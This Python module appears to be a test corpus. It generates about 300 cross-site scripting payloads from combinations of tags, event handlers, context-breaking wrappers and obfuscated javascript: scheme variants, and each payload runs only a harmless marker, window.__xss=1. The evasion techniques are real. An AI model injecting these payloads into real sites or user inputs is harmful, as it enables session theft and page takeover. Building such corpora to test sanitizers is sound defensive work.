"""300 texts that run as script wherever they are read as HTML, each vector in several disguises."""

from __future__ import annotations

from itertools import product

RUN = "window.__xss=1"

_TAGS = (
    "img",
    "video",
    "audio",
    "svg",
    "body",
    "iframe",
    "object",
    "embed",
    "input",
    "details",
    "marquee",
    "style",
    "link",
    "math",
    "a",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "&#106;avascript:",
    "data:text/html,<script>",
    "vbscript:",
    "//javascript:",
    "javascript&colon;",
)
_WRAPS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--!>{}",
    "]]>{}",
    "</p></div>{}",
    "`{}`",
    "**{}**",
    "- {}",
)
_CORES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script>{RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<style>@import 'data:text/css,*{{display:none}}';</style><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"${{{RUN}}}{{{{{RUN}}}}}<%={RUN}%>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} src=x href=x {event}={RUN} autofocus tabindex=1 open>" for tag, event in product(_TAGS, _EVENTS)),
    *(wrap.format(core) for wrap, core in product(_WRAPS, _CORES)),
    *(f"[klik]({scheme}{RUN})" for scheme in _SCHEMES),
    *(f"<a href='{scheme}{RUN}' autofocus onfocus={RUN}>klik</a>" for scheme in _SCHEMES),
    *(f"{scheme}{RUN}" for scheme in _SCHEMES),
    *(f"[**{scheme}**](https://x.be/\"onclick={RUN})<base href='{scheme}'>" for scheme in _SCHEMES),
    *(f"tel:{scheme}{RUN}" for scheme in _SCHEMES),
    *(f"mailto:x@x.be?{scheme}{RUN}" for scheme in _SCHEMES),
)  # fmt: skip
